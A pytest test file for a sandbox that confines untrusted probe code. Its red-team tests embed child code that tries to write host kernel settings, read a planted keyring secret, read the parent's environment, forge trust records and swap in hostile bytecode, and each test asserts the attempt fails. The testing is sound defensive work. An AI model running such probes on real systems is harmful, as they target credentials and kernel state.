    assert ops[-1] == ("bind", str(tmp_path / "box"))  # read-only: the child writes a tmpfs over it and the answer
    box = sandbox.Box(tmp_path)
    command = sandbox._bwrap_command(["python", "-m", "w"], box, [str(tmp_path / "venv" / "lib")], 7)
    assert command[1:7] == ["--unshare-all", "--die-with-parent", "--new-session", "--cap-drop", "ALL", "--hostname"]
    assert ["--symlink", str(tmp_path / "real"), str(tmp_path / "venv")] == command[command.index("--symlink"):
                                                                                   command.index("--symlink") + 3]
    assert "--ro-bind" in command and command[-4:] == ["--", "python", "-m", "w"]
    assert command[-10:-4] == ["--", "python", "-I", "-S", str(tmp_path / "box" / "lib" / "sleuth" / "probes" /
                                                               "confine.py"), "keyring"]  # a fresh session keyring
    assert command[command.index("--info-fd") + 1] == "7"
    assert command.index("--remount-ro") > max(i for i, part in enumerate(command) if part == "--ro-bind")
    answer = str(tmp_path / "box" / "answer.json")
    assert ["--bind", answer, answer] == command[command.index("--bind"):command.index("--bind") + 3]
    assert ["--ro-bind", str(tmp_path / "box"), str(tmp_path / "box")] == command[command.index("--bind") - 3:
                                                                                command.index("--bind")]
    assert command[command.index("--tmpfs") - 2:command.index("--tmpfs") + 2] == [
        "--size", str(sandbox.SCRATCH_BYTES), "--tmpfs", str(tmp_path / "box" / "scratch")]


# --- round 3 (red team): host kernel state, sleuth itself, the box, trust bound to the run ---------------

_KEYCTL_NUMBERS = {"x86_64": (248, 250), "aarch64": (217, 219)}  # add_key, keyctl


def _keyctl():
    import ctypes
    import platform

    numbers = _KEYCTL_NUMBERS.get(platform.machine())
    if numbers is None:
        pytest.skip(f"no add_key/keyctl syscall numbers known for {platform.machine()}")
    return ctypes.CDLL(None, use_errno=True), numbers


def _plant_user_key(description: str, payload: bytes) -> int:
    import ctypes

    libc, (add_key, _keyctl_number) = _keyctl()
    key = libc.syscall(add_key, b"user", description.encode(), payload, ctypes.c_size_t(len(payload)),
                       ctypes.c_int(-4))  # KEY_SPEC_USER_KEYRING
    if key < 0:
        pytest.skip(f"this machine's kernel keyring refuses a test key: {os.strerror(ctypes.get_errno())}")
    return key


def _unlink_user_key(key: int) -> None:
    import ctypes

    libc, (_add_key, keyctl) = _keyctl()
    libc.syscall(keyctl, ctypes.c_int(9), ctypes.c_int(key), ctypes.c_int(-4))  # KEYCTL_UNLINK from @u


@needs_namespaces
def test_the_namespace_child_can_write_no_host_sysctl_and_cannot_find_the_users_keys(tmp_path):
    import platform

    libc_numbers = _KEYCTL_NUMBERS.get(platform.machine())
    description = f"sleuth-test-{uuid.uuid4().hex}"
    key = _plant_user_key(description, b"the user's kerberos ticket")
    code = entry_code(tmp_path, f'''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
seen = {{}}
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sys/kernel/pid_max",
             "/proc/sysrq-trigger"):
    try:
        os.close(os.open(path, os.O_WRONLY))
        seen[path] = "opened for writing"
    except OSError as exc:
        seen[path] = exc.strerror
found = libc.syscall({libc_numbers[1]}, ctypes.c_int(10), ctypes.c_int(-4), b"user", b"{description}", ctypes.c_int(0))
seen["user keyring"] = found if found >= 0 else os.strerror(ctypes.get_errno())
found = libc.syscall({libc_numbers[1]}, ctypes.c_int(10), ctypes.c_int(-3), b"user", b"{description}", ctypes.c_int(0))
seen["session keyring"] = found if found >= 0 else os.strerror(ctypes.get_errno())
seen["uid"] = os.getuid()
answer(error=json.dumps(seen))
''')
    try:
        outcome = probe_entry(code)
    finally:
        _unlink_user_key(key)
    seen = json.loads(outcome.error)
    assert seen["/proc/sys/kernel/core_pattern"] != "opened for writing", seen
    assert all(value != "opened for writing" for name, value in seen.items() if name.startswith("/proc")), seen
    assert seen["user keyring"] == seen["session keyring"] == "Required key not available", seen
    assert outcome.isolation.keyring == "fresh" and outcome.isolation.user_namespace == "own"
    if os.geteuid() == 0:  # never global root, even when sleuth is
        assert seen["uid"] != 0 and outcome.isolation.uid == seen["uid"]


def test_at_the_process_level_a_root_sleuths_child_is_nobody_and_cannot_touch_sleuth(tmp_path, monkeypatch):
    import ctypes

    from sleuth.probes import sandbox

    if os.geteuid() != 0:
        pytest.skip("the child changes uid only when sleuth is root (as a user it keeps the user's: README)")
    trust = tmp_path / "trust"
    trust.mkdir(mode=0o700)
    box = sandbox.Box.create()
    try:
        box.hand_over(sandbox.child_ids())
        env = sandbox.child_environment(box, sys.executable, 1)
        # A shell, not Python: nobody can run /bin/sh wherever this machine keeps its Python.
        # kill -0: the permission check of SIGSTOP / SIGKILL, without stopping the test should it pass.
        me = os.getpid()
        script = (f"id -u; kill -0 {me} 2>/dev/null && echo can-signal-sleuth; cat /proc/{me}/environ "
                  f">/dev/null 2>&1 && echo read-environ; touch {trust}/forged.json 2>/dev/null && echo forged; "
                  "grep -E '^(Max processes)' /proc/self/limits")
        finished = sandbox._spawn(["/bin/sh", "-c", script], "process", box=box, env=env, timeout_s=60,
                                  limits=sandbox.Limits(), pass_fds=(), fallback=None)
        out = (box.logs / "stdout-process").read_text()
    finally:
        box.remove()
    lines = out.splitlines()
    assert lines[0] == str(sandbox.child_ids()[0]), out
    assert "can-signal-sleuth" not in out and "read-environ" not in out and "forged" not in out, out
    assert not list(trust.iterdir())
    assert "unlimited" not in lines[-1], out  # RLIMIT_NPROC binds the child's uid, unlike root's
    assert finished.isolation.uid == sandbox.child_ids()[0] and finished.isolation.keyring == "fresh"
    libc = ctypes.CDLL(None, use_errno=True)
    assert libc.prctl(3, 0, 0, 0, 0) == 0  # PR_GET_DUMPABLE: sleuth's own /proc files are root's from now on


def test_a_1500_deep_directory_chain_in_the_box_is_removed_without_an_internal_error(tmp_path):
    from sleuth.probes import sandbox

    code = entry_code(tmp_path, '''
path = os.getcwd()
for _ in range(1500):
    path = os.path.join(path, "d")
    os.mkdir(path)
os.chmod(os.path.dirname(path), 0o500)  # and one directory it may not write
answer(error=os.getcwd())
''')
    outcome = probe_entry(code)
    box_root = Path(outcome.error).parents[2]  # <root>/box/scratch/work
    assert box_root.name.startswith("sleuth-probe-") and not box_root.exists()  # nothing left behind
    assert not any("could not be fully removed" in note for note in outcome.notes)
    # The box itself, with such a chain on disk (the process level keeps its scratch there): gone, no recursion.
    box = sandbox.Box.create()
    deep = box.work
    for _ in range(1500):
        deep = deep / "d"
        deep.mkdir()
    deep.parent.chmod(0o500)
    assert box.remove() is None and not box.root.exists()



def test_byte_code_beside_or_under_the_code_never_runs_instead_of_the_source(tmp_path):
    import py_compile

    benign, malicious = "answer(error='ran the source')\n", "answer(error='ran a bytecode')\n"
    assert len(benign) == len(malicious)  # the .pyc header checks the source's size and mtime only
    code = entry_code(tmp_path, malicious)
    source = code / "hostile.py"
    py_compile.compile(str(source), cfile=str(code / "__pycache__" / f"hostile.{sys.implementation.cache_tag}.pyc"))
    stamp = source.stat().st_mtime_ns
    source.write_text(source.read_text().replace(malicious, benign))
    os.utime(source, ns=(stamp, stamp))  # the .pyc's header still matches the (now benign) source
    (code / "sneaky.pyc").write_bytes((code / "__pycache__" / f"hostile.{sys.implementation.cache_tag}.pyc")
                                      .read_bytes())  # a sourceless module too: never copied
    outcome = probe_entry(code)
    assert outcome.error == "ran the source", outcome.error
    assert any("byte-code" in note for note in outcome.notes)


def test_a_path_with_a_newline_cannot_pose_as_two_files_in_the_tree_hash(tmp_path):
    from sleuth.probes.runner import CodeCopy, copy_code
    from sleuth.probes.trust import legacy_tree_sha256, tree_sha256

    a, b = "1" * 64, "2" * 64
    honest = {"trainer/cli.py": a, "trainer/commands/__init__.py": b}
    forged = {f"trainer/cli.py\n{b}  trainer/commands/__init__.py": a}
    assert legacy_tree_sha256(honest) == legacy_tree_sha256(forged)  # the collision of the old format
    assert tree_sha256(honest) != tree_sha256(forged)
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "ok.py").write_text("")
    (tmp_path / "src" / "bad\nname.py").write_text("")
    notes: list[str] = []
    assert list(copy_code(CodeCopy(tmp_path / "src"), tmp_path / "copy", notes)) == ["ok.py"]
    assert any("control characters" in note for note in notes)


def test_trust_names_the_run_a_byte_identical_copy_elsewhere_is_not_trusted(tmp_path, monkeypatch):
    import shutil

    from sleuth.probes.runner import CodeCopy, copy_code

    run = trusted_run(tmp_path, monkeypatch)
    colleague = tmp_path / "colleague" / "v5"
    shutil.copytree(run, colleague)
    outcome = run_plan(plan_for_run(colleague, colleague / "code", "v5"))
    assert outcome.declined and not outcome.trusted and "this run" in outcome.declined
    assert run_plan(plan_for_run(run, run / "code", "v5"), timeout_s=1).trusted  # its own run: still trusted
    # A record an older trainer wrote (format 1, one per tree) is read for the run it names only.
    from sleuth.probes.trust import legacy_tree_sha256

    trust = tmp_path / "trust"
    for record in trust.iterdir():
        record.unlink()
    files = copy_code(CodeCopy(run / "code", only="trainer", python_only=True), tmp_path / "copy", [])
    legacy = legacy_tree_sha256(files)
    (trust / f"{legacy}.json").write_text(json.dumps({"format": 1, "tree_sha256": legacy, "run": str(run.resolve())}))
    assert run_plan(plan_for_run(run, run / "code", "v5"), timeout_s=1).trusted
    old = run_plan(plan_for_run(colleague, colleague / "code", "v5"))
    assert old.declined and "recorded the same code for another run" in old.declined


def test_run_files_that_ask_a_probe_for_4000_target_layers_are_refused_in_one_line(tmp_path):
    run = write_run(tmp_path)
    (run / "code" / "trainer" / "__init__.py").write_text("")
    (run / "code" / "trainer" / "probe.py").write_text(ANSWER_HELPERS + "answer(verdicts=[ONE_VERDICT])\n")
    info = json.loads((run / "run.json").read_text())
    info["target"]["num_layers"] = 4000
    (run / "run.json").write_text(json.dumps(info))
    plan = plan_for_run(run, run / "code", "v5")
    plan.asked = True  # --probe
    outcome = run_plan(plan)
    assert outcome.error == "not run: the run's run.json target.num_layers is 4000, past the 512 sleuth probes with"
    assert outcome.isolation is None


@needs_namespaces
def test_the_childs_scratch_is_a_size_capped_tmpfs_and_the_box_is_read_only(tmp_path, monkeypatch):
    from sleuth.probes import sandbox

    monkeypatch.setattr(sandbox, "SCRATCH_BYTES", 8 * 2**20)
    code = entry_code(tmp_path, '''
seen = {}
try:
    with open("fill", "wb") as handle:
        for _ in range(32):
            handle.write(b"x" * 2**20)
            handle.flush()
    seen["scratch"] = "wrote 32 MiB"
except OSError as exc:
    seen["scratch"] = exc.strerror
try:
    open(os.path.join(os.path.dirname(sys.argv[2]), "more"), "w")
    seen["box"] = "writable"
except OSError as exc:
    seen["box"] = exc.strerror
seen["nproc"] = [line for line in open("/proc/self/limits") if line.startswith("Max processes")][0]
answer(error=json.dumps(seen))
''')
    outcome = probe_entry(code)
    seen = json.loads(outcome.error)
    assert seen["scratch"] == "No space left on device" and seen["box"] == "Read-only file system", seen
    assert "unlimited" not in seen["nproc"], seen
    assert outcome.isolation.limits["scratch_bytes"] == 8 * 2**20


def test_an_orphan_that_exited_before_the_probe_ended_is_reaped_not_left_behind(tmp_path):
    from sleuth.probes import sandbox

    box = sandbox.Box.create()
    try:
        box.hand_over(sandbox.child_ids())
        env = sandbox.child_environment(box, sys.executable, 1)
        # The grandchild leaves the session and exits at once: a zombie of the child, then an orphan of sleuth's.
        sandbox._spawn(["/bin/sh", "-c", "setsid sh -c 'exit 0' & exec sleep 1"], "process", box=box, env=env,
                       timeout_s=60, limits=sandbox.Limits(), pass_fds=(), fallback=None)
    finally:
        box.remove()
    me = str(os.getpid()).encode()
    zombies = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                raw = (entry / "stat").read_bytes()
            except OSError:
                continue
            fields = raw[raw.rfind(b")") + 2:].split()
            if fields[0] == b"Z" and fields[1] == me:
                zombies.append(entry.name)
    assert zombies == []
